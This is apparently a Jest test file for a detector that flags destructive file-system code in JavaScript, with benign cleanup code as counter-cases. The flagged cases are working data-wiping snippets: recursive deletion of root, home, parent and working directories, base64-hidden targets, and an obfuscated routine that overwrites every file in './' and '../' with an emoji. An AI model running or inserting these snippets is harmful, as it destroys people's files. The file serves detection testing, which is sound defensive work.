import { describe, expect, test } from '@jest/globals';
import { told } from './told.js';

const fs = 'const fs = require("fs"); const path = require("path"); const os = require("os"); ';
const walk = (act: string): string => `function w(d) { for (const n of fs.readdirSync(d)) { const p = path.join(d, n); if (fs.statSync(p).isDirectory()) w(p); else ${act}; } }`;

describe('files that are deleted or written over wherever there are any', () => {
  test.each([
    ['fs.rmSync("/", { recursive: true, force: true });', 'wipe root'], ['fs.rmSync(os.homedir(), { recursive: true });', 'wipe home'], ['fs.rm(process.env.HOME, { recursive: true }, () => {});', 'wipe home'], ['const h = process.env.HOME || process.env.USERPROFILE; fs.rmSync(h, { recursive: true });', 'wipe home'],
    ['fs.rmSync(path.join(os.homedir(), "/"), { recursive: true });', 'wipe home'], ['fs.rmSync(`${os.homedir()}/*`, { recursive: true });', 'wipe home'], ['fs.rmSync(os.homedir() + "/Documents", { recursive: true });', 'wipe home'], ['fs.rmSync("C:\\\\", { recursive: true });', 'wipe drive'],
    ['fs.rmSync("..", { recursive: true });', 'wipe parent'], ['fs.rmSync(path.resolve(process.cwd(), ".."), { recursive: true });', 'wipe parent'], ['fs.rmdirSync(process.cwd(), { recursive: true });', 'wipe cwd'], ['const o = { recursive: true, force: true }; fs.rmSync("/", o);', 'wipe root'],
    ['require("rimraf").sync("/");', 'wipe root'], ['require("rimraf")("/*", () => {});', 'wipe root'], ['const { rimraf } = require("rimraf"); rimraf(os.homedir());', 'wipe home'], ['require("fs-extra").removeSync("/home");', 'wipe home'], ['require("fs-extra").emptyDir("..");', 'wipe parent'],
    ['require("fs").promises.rm(Buffer.from("Lw==", "base64").toString(), { recursive: true });', 'wipe root'], ['for (const d of ["/", "../"]) fs.rmSync(d, { recursive: true });', 'wipe root'], ['const { HOME } = process.env; fs.rmSync(HOME, { recursive: true });', 'wipe home'],
    [`${walk('fs.unlinkSync(p)')} w("/");`, 'wipe root'], [`${walk('fs.unlinkSync(p)')} w(os.homedir());`, 'wipe home'], [`${walk('fs.writeFileSync(p, "")')} w("/");`, 'overwrite root'], [`${walk('fs.writeFile(p, "x", () => {})')} w("./");`, 'overwrite cwd'], [`${walk('kill(p)')} function kill(f) { fs.rmSync(f); } w("../");`, 'wipe parent'],
    ['for (const n of fs.readdirSync(os.homedir())) fs.rmSync(path.join(os.homedir(), n), { recursive: true });', 'wipe home'], ['fs.readdir("/", (e, all) => all.forEach((n) => fs.unlink("/" + n, () => {})));', 'wipe root'], ['function w(d, f) { fs.readdirSync(d).forEach((n) => f(d + n)); } w("/", (p) => fs.unlinkSync(p));', 'wipe root'],
    ['function* all(d) { for (const n of fs.readdirSync(d)) yield d + n; } for (const f of all(os.homedir())) fs.unlinkSync(f);', 'wipe home'], ['async function w(d) { const { readdir, unlink } = require("fs/promises"); for (const n of await readdir(d)) await unlink(d + n); } w("~");', 'wipe home'],
    [`(${walk('fs.unlinkSync(p)')})("/");`, 'wipe root'], [`const tool = { ${walk('fs.unlinkSync(p)').replace('function ', '').replace(') w(p)', ') tool.w(p)')} }; tool.w("~");`, 'wipe home'], [`${walk('fs.unlinkSync(p)')} const go = w; const run = (d) => go(d); run(os.homedir());`, 'wipe home'],
    [`${walk('fs.writeFileSync(p, "x")')} exports.go = (d) => w(d);`, 'overwrite tree'],
    ['const w = (d) => fs.readdirSync(d, { recursive: true }).map((n) => fs.truncateSync(d + n)); w(process.env.USERPROFILE);', 'overwrite home'],
    ['function h(n = "", o = "") { if (!fs.existsSync(n)) return []; let r = []; try { r = fs.readdirSync(n); } catch (e) {} const f = []; const c = Buffer.from("4p2k77iP", "base64"); for (var e = 0; e < r.length; e++) { const i = path.join(n, r[e]); let t = null; try { t = fs.lstatSync(i); } catch (e) { continue; } if (t.isDirectory()) { const s = h(i, o); s.length > 0 && f.push(...s); } else if (i.indexOf(o) >= 0) { try { fs.writeFile(i, c.toString("utf8"), function () {}); } catch (e) {} } } return f; } const a = Buffer.from("Li8=", "base64"); const b = Buffer.from("Li4v", "base64"); h(a.toString("utf8")); h(b.toString("utf8"));', 'overwrite parent'],
  ])('%s', (text, expected) => { expect(told(fs + text, 'destructive')).toContain(expected); });

  test('of modules', () => {
    expect(told('import { rmSync as r } from "node:fs"; import { homedir } from "node:os"; r(homedir(), { recursive: true });', 'destructive', { format: 'module' })).toEqual(['wipe home']);
    expect(told('import * as fs from "fs"; import os from "os"; await fs.promises.rm(os.homedir(), { recursive: true });', 'destructive', { format: 'module' })).toEqual(['wipe home']);
  });
});

describe('who tidies up', () => {
  test.each([
    'fs.rmSync("dist", { recursive: true });', 'fs.rmSync(path.join(__dirname, "dist"), { recursive: true, force: true });', 'require("rimraf").sync("node_modules");', 'fs.rmSync(path.join(os.tmpdir(), "x"), { recursive: true });', 'fs.rmSync(path.join(os.homedir(), ".cache", "mine"), { recursive: true });',
    'fs.rmSync(`${process.env.HOME}/.mine`, { recursive: true });', 'fs.rmSync(dir, { recursive: true });', 'function clean(dir) { fs.rmSync(dir, { recursive: true }); } clean(options.out);', 'fs.rmSync(path.resolve(process.cwd(), target), { recursive: true });', 'fs.rmSync(path.join(process.cwd(), "build"), { recursive: true });',
    'fs.unlinkSync("/tmp/x");', 'fs.unlinkSync(path.join(os.homedir(), name));', `${walk('fs.unlinkSync(p)')} w(path.join(__dirname, "dist"));`, `${walk('fs.unlinkSync(p)')} exports.clean = (d) => w(d);`, `${walk('fs.writeFileSync(p, format(fs.readFileSync(p, "utf8")))')} w(".");`,
    `${walk('list.push(p)')} const list = []; w("/");`, `${walk('list.push(p)')} const list = []; w(os.homedir());`, 'for (const n of fs.readdirSync(process.cwd())) if (n.endsWith(".log")) fs.unlinkSync(n);', 'for (const n of fs.readdirSync(os.tmpdir())) fs.unlinkSync(n);', 'fs.readdirSync("/dev").length; fs.unlinkSync(mine);',
    'fs.rmdirSync("..");', 'function copy(a, b) { for (const n of fs.readdirSync(a)) { if (fs.statSync(a + n).isDirectory()) copy(a + n, b + n); else fs.writeFileSync(b + n, fs.readFileSync(a + n)); } } copy("x", "y");', 'fs.rm("/", { recursive: false }, f);', 'db.remove("/");', 'router.remove("/"); cache.rm("/", { recursive: true });', 'fs.writeFileSync(path.join(os.homedir(), ".mine"), "x"); fs.readdirSync(dir);', 'const emptyDir = require("./empty"); emptyDir("..");', 'fs.rmSync("./out", { recursive: true });',
    'fs.mkdirSync(os.homedir(), { recursive: true });', 'const dir = process.argv[2] || "."; fs.rmSync(path.join(dir, ".cache"), { recursive: true });', 'function read(d) { return fs.readdirSync(d).map((n) => fs.readFileSync(d + n)); } read("."); fs.unlinkSync(lock);',
  ])('%s', (text) => { expect(told(fs + text, 'destructive')).toEqual([]); });
});

describe('a class that keeps files, beside a collection with methods of the same names', () => {
  const kept = 'class Kept { set(k, v) { this.tidy(); fs.writeFileSync(path.join(this.folder, k), v) } tidy() { for (const n of fs.readdirSync(this.folder)) fs.unlinkSync(path.join(this.folder, n)) } } exports.kept = new Kept();';
  test.each([
    ['a map', 'const seen = new Map(); seen.set(process.cwd(), true);', []],
    ['one that the file has itself', 'class Map extends Kept {} const seen = new Map(); seen.set(process.cwd(), true);', ['overwrite cwd']],
    ['one that may be something else', 'let seen = new Map(); if (x) seen = exports.kept; seen.set(process.cwd(), true);', ['overwrite cwd']],
  ])('%s', (_, text, found) => {
    expect(told(`${fs} ${kept} ${text}`, 'destructive')).toEqual(found);
  });
});
